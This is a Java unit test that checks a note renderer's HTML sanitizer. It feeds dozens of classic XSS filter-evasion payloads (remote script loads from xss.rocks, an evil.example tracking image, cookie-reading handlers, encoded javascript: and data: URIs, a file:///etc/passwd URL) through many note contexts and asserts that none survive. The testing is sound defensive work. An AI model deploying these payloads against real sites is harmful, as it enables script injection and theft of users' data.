package org.kasten.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.function.Function;
import java.util.regex.Pattern;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.kasten.note.Frontmatter;
import org.kasten.note.Note;

/**
 * Renders known XSS vectors in every place a note can hold them (the full list in the five
 * most exposed places) and checks, by parsing the output, that
 * nothing executable or remote survives. Uses the payloadbox list from ../shared/xss (6,613 vectors) when
 * present, and always a built-in set of classic OWASP filter-evasion vectors.
 */
class XssSafetyTest {

    private static final List<String> BUILT_IN = List.of(
            "<script>alert('XSS')</script>", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
            "<IMG SRC=\"javascript:alert('XSS');\">", "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>", "<IMG SRC=# onmouseover=\"alert('xxs')\">",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">", "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<SCRIPT SRC=http://xss.rocks/xss.js?< B >", "<iframe src=http://xss.rocks/scriptlet.html <",
            "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">", "<svg/onload=alert('XSS')>", "<BODY ONLOAD=alert('XSS')>",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
            "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\">", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
            "<DIV STYLE=\"width: expression(alert('XSS'));\">", "<BASE HREF=\"javascript:alert('XSS');//\">",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
            "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(2)\">x</button></form>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
            "<video><source onerror=\"alert(1)\"></video>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<a href=\"java&#0009;script:alert(1)\">x</a>",
            "<img src=\"https://evil.example/track.gif\">", "<x style=\"background:url(//evil.example/a)\">x</x>",
            "javascript:alert(1)", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">");

    private static final Set<String> FORBIDDEN_TAGS = Set.of("script", "iframe", "frame", "frameset", "object", "embed",
            "applet", "form", "base", "meta", "link", "style", "svg", "math", "button", "textarea", "select", "video",
            "audio", "source", "noscript", "template");
    private static final Set<String> URL_ATTRIBUTES = Set.of("href", "src", "action", "formaction", "xlink:href",
            "background", "data", "poster", "srcset", "cite", "lowsrc", "dynsrc");
    private static final Pattern CONTROL = Pattern.compile("[\\x00-\\x20\\u00a0]");

    private final GraphVault vault = vaultWithNotes();
    private final NoteRenderer renderer = new NoteRenderer(vault);

    private static GraphVault vaultWithNotes() {
        GraphVault vault = new GraphVault();
        vault.add("Known.md", "known note");
        vault.attachment("pic.png");
        return vault;
    }

    /** The places a payload can sit in a note. */
    private static Map<String, Function<String, Note>> contexts() {
        Map<String, Function<String, Note>> contexts = new LinkedHashMap<>();
        contexts.put("body", p -> md(p));
        contexts.put("html block", p -> md("<div>\n" + p + "\n</div>\n\nafter"));
        contexts.put("inline html", p -> md("text " + p + " more"));
        contexts.put("link url", p -> md("[x](" + p + ")"));
        contexts.put("link url in angle brackets", p -> md("[x](<" + p + ">)"));
        contexts.put("image url", p -> md("![x](" + p + ")"));
        contexts.put("reference link", p -> md("[x][r]\n\n[r]: " + p));
        contexts.put("wiki target", p -> md("[[" + p + "]] and [[Known|" + p + "]]"));
        contexts.put("embed target", p -> md("![[" + p + "]]\n\n![[pic.png|" + p + "]]"));
        contexts.put("callout title", p -> md("> [!note] " + p + "\n> body"));
        contexts.put("code and math", p -> md("`" + p + "` $" + p + "$\n\n```mermaid\n" + p + "\n```"));
        contexts.put("frontmatter", p -> GraphVault.note("X.md", "body", new Frontmatter(Map.of(
                "title", p, "source", p, "tags", List.of(p), "nested", Map.of(p, p)))));
        contexts.put("plain text", p -> GraphVault.note("X.txt", p + "\nSee also\n- " + p + " — x\n", Frontmatter.EMPTY));
        return contexts;
    }

    private static Note md(String body) {
        return GraphVault.note("X.md", body, Frontmatter.EMPTY);
    }

    @Test
    void builtInVectorsDoNotSurviveAnywhere() {
        assertThat(BUILT_IN).hasSizeGreaterThanOrEqualTo(50);
        List<String> problems = check(BUILT_IN, true, contexts().keySet());
        assertThat(problems).isEmpty();
    }

    @Test
    void payloadboxVectorsDoNotSurviveAnywhere() throws IOException {
        Path list = Path.of(System.getProperty("kasten.shared", "../shared"), "xss", "payloadbox-xss-payload-list.txt");
        Assumptions.assumeTrue(Files.isRegularFile(list), "payload list not present: " + list);
        List<String> payloads = Files.readAllLines(list, StandardCharsets.UTF_8).stream().filter(s -> !s.isBlank()).toList();
        assertThat(payloads).hasSizeGreaterThan(6000);
        Set<String> contexts = Set.of("body", "html block", "link url", "wiki target", "frontmatter");
        List<String> problems = check(payloads, false, contexts);
        assertThat(problems).isEmpty();
    }

    @Test
    void theCheckerSeesUnsafeHtml() {
        assertThat(problems("<p><img src=x onerror=alert(1)></p>", false)).containsExactly("event handler onerror");
        assertThat(problems("<a href=\" jav&#x09;ascript:alert(1)\">x</a>", false))
                .containsExactly("dangerous url href=javascript:alert(1)");
        assertThat(problems("<iframe></iframe><img src=\"https://x/y.gif\">", false))
                .containsExactly("element <iframe>", "remote resource https://x/y.gif");
        assertThat(problems("<div style=\"background:url(x)\"></div><script>1</script>", false))
                .containsExactly("style loading content: background:url(x)", "element <script>");
        assertThat(problems("<html><head></head><body></body></html>", true)).contains("no strict CSP");
        assertThat(problems("<img src=\"file:///etc/passwd\"><a href=\"kasten://attachment/../x.png\">x</a>", false))
                .containsExactly("url outside the vault file:///etc/passwd", "url outside the vault kasten://attachment/../x.png");
    }

    /** Renders each payload in each context; returns what survived (empty when all is safe). */
    private List<String> check(List<String> payloads, boolean fullPage, Set<String> only) {
        Map<String, Function<String, Note>> contexts = contexts();
        contexts.keySet().retainAll(only);
        assertThat(contexts).hasSize(only.size());
        // the renderer is thread-safe; two threads halve the wall time of the 6,613-vector run
        return payloads.parallelStream().flatMap(payload -> contexts.entrySet().stream().flatMap(context -> {
            Note note = context.getValue().apply(payload);
            String html = fullPage ? renderer.renderPage(note, Theme.LIGHT) : renderer.renderBody(note);
            return problems(html, fullPage).stream().map(problem -> context.getKey() + " | " + payload + " | " + problem);
        })).limit(50).toList();
    }

    /** What is unsafe in one rendered page or body. */
    static List<String> problems(String html, boolean fullPage) {
        List<String> problems = new ArrayList<>();
        Document doc = Jsoup.parse(html);
        Set<String> ownScripts = fullPage ? Set.of(PageAssets.katexJs(), PageAssets.ownScript("math.js"),
                PageAssets.highlightJs(), PageAssets.ownScript("code.js"),
                PageAssets.ownScript("mermaid.js")) : Set.of();
        for (Element el : doc.body().getAllElements()) {
            String tag = el.normalName();
            if (tag.equals("script") && ownScripts.contains(el.data()) && el.attributes().size() == 0) {
                continue;
            }
            if (fullPage && tag.equals("script") && (el.data().isEmpty() || el.data().equals(PageAssets.mermaidJs())) && el.attributes().size() == 2
                    && el.attr("type").equals("text/plain") && el.id().equals(PageTemplate.MERMAID_LIBRARY_ID)) {
                continue; // the library's place, empty until the window hands it in (run only by its hash)
            }
            if (FORBIDDEN_TAGS.contains(tag)) {
                problems.add("element <" + tag + ">");
            }
            for (Attribute attribute : el.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                String value = CONTROL.matcher(attribute.getValue()).replaceAll("").toLowerCase(Locale.ROOT);
                if (name.startsWith("on")) {
                    problems.add("event handler " + name);
                }
                if (name.equals("style") && (value.contains("url(") || value.contains("expression(") || value.contains("@import"))) {
                    problems.add("style loading content: " + value);
                }
                if (URL_ATTRIBUTES.contains(name) && (value.startsWith("javascript:") || value.startsWith("vbscript:")
                        || value.startsWith("data:") && !(name.equals("src") && tag.equals("img") && value.startsWith("data:image/")))) {
                    problems.add("dangerous url " + name + "=" + value);
                }
                if (name.equals("src") && (value.startsWith("http:") || value.startsWith("https:") || value.startsWith("//"))) {
                    problems.add("remote resource " + value);
                }
                if (URL_ATTRIBUTES.contains(name) && (value.startsWith("file:")
                        || value.startsWith("kasten://attachment") && !HtmlSanitizer.isVaultFile(attribute.getValue()))) {
                    problems.add("url outside the vault " + value);
                }
            }
        }
        if (fullPage) {
            Element csp = doc.head().selectFirst("meta[http-equiv=Content-Security-Policy]");
            if (csp == null || !csp.attr("content").startsWith("default-src 'none'")) {
                problems.add("no strict CSP");
            }
            if (doc.head().select("meta").size() != 3 || !doc.head().select("script, link, base").isEmpty()) {
                problems.add("unexpected head content");
            }
        }
        return problems;
    }
}
